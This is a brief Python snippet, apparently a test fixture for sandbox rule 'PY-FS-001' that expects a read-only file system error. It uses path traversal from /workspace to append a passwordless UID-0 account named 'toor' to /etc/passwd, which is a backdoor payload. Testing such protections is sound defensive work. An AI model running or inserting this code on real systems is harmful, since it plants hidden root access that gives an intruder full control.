# rule: PY-FS-001
# attempts: Errno 30\] Read-only file system: '\.\./\.\./etc/passwd'
# Relative to /workspace, ../../etc/passwd is /etc/passwd.
with open("../../etc/passwd", "a") as f:
    f.write("toor:x:0:0::/root:/bin/sh\n")
